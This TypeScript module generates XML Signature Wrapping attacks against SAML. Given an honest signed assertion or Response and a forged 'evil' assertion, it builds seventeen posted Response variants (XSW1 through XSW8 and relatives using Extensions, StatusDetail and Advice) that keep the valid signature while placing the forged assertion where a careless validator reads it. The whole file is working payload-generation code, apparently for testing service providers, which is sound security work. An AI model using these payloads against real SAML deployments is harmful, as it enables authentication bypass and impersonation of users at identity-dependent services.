/** Takes the signature out of signed XML: what is left, and the signature. */
export function split(signed: string): { rest: string; signature: string } {
  const signature = /<ds:Signature[\s\S]*<\/ds:Signature>/.exec(signed)?.[0];
  if (signature === undefined) throw new Error('nothing is signed here');
  return { rest: signed.replace(signature, ''), signature };
}

/** Puts XML into an element, behind its start tag (or, where there is one, behind its Issuer) or before its end tag. */
export function into(xml: string, where: 'first' | 'last', more: string): string {
  if (where === 'last') return xml.replace(/(<\/[^<>]+>)$/, `${more}$1`);
  return xml.replace(/^(<[^>]+>(?:<saml:Issuer>[^<]*<\/saml:Issuer>)?)/, `$1${more}`);
}

function object(content: string): string {
  return `<ds:Object>${content}</ds:Object></ds:Signature>`;
}

/**
 * The eight forms of signature wrapping (Somorovsky et al., "On Breaking SAML", 2012) and relatives. Each keeps
 * an honest signed element somewhere and puts an evil assertion where a careless reader looks.
 *
 * In: an honest signed assertion, an honest signed Response (of an unsigned assertion), an evil assertion, and what
 * makes a Response around anything. Out: posted XML by name.
 */
export function wrappings(
  signedAssertion: string,
  signedResponse: string,
  evil: string,
  around: (inner: string, extensions?: string, status?: string) => string,
): Record<string, string> {
  const assertion = split(signedAssertion);
  const response = split(signedResponse);
  const evilResponse = around(evil);
  const filled = assertion.signature.replace('</ds:Signature>', object(assertion.rest));
  return {
    'XSW1: original Response in the Signature of an evil one': into(
      evilResponse,
      'first',
      response.signature.replace('</ds:Signature>', object(response.rest)),
    ),
    'XSW1: original Response in the Signature, directly': into(
      evilResponse,
      'first',
      response.signature.replace('</ds:Signature>', `${response.rest}</ds:Signature>`),
    ),
    'XSW2: original Response beside its Signature': into(evilResponse, 'first', response.rest + response.signature),
    'XSW3: evil assertion before the original': around(evil + signedAssertion),
    'XSW3: evil assertion after the original': around(signedAssertion + evil),
    'XSW4: original in the evil assertion': around(into(evil, 'last', signedAssertion)),
    'XSW5: evil assertion takes the signature': around(into(evil, 'first', assertion.signature) + assertion.rest),
    'XSW6: original in the signature that the evil assertion took': around(
      into(evil, 'first', assertion.signature.replace('</ds:Signature>', `${assertion.rest}</ds:Signature>`)),
    ),
    'XSW7: evil assertion in Extensions': around(signedAssertion, `<samlp:Extensions>${evil}</samlp:Extensions>`),
    'XSW7: original in Extensions': around(evil, `<samlp:Extensions>${signedAssertion}</samlp:Extensions>`),
    'XSW8: original in ds:Object of the evil assertion': around(into(evil, 'first', filled)),
    'XSW8: evil assertion in ds:Object of the original': around(
      signedAssertion.replace('</ds:Signature>', object(evil)),
    ),
    'evil assertion in StatusDetail': around(signedAssertion, '', `<samlp:StatusDetail>${evil}</samlp:StatusDetail>`),
    'original in StatusDetail': around(evil, '', `<samlp:StatusDetail>${signedAssertion}</samlp:StatusDetail>`),
    'original in Advice': around(into(evil, 'last', `<saml:Advice>${signedAssertion}</saml:Advice>`)),
    'evil assertion in Advice': around(into(signedAssertion, 'last', `<saml:Advice>${evil}</saml:Advice>`)),
    'the whole honest Response within an evil one': around(
      evil,
      `<samlp:Extensions>${signedResponse}</samlp:Extensions>`,
    ),
  };
}
